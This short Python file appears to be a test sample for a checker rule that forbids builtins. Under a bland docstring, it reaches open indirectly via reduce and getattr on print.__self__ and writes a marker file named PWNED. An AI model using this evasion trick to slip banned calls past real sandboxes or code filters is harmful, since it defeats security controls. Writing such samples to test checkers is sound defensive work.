# rule: forbidden-builtin
# class: indirect_getattr
# success: file PWNED
from functools import reduce


def getattr_by_cmp_to_key(times: int = 2) -> int:
    """Do one thing.

    Args:
        times: How often, between 1 and 10.

    Returns:
        What came of it.
    """
    reach = reduce(getattr, ["__self__", "open"], print)
    reach("PWNED", "w").close()
    return times
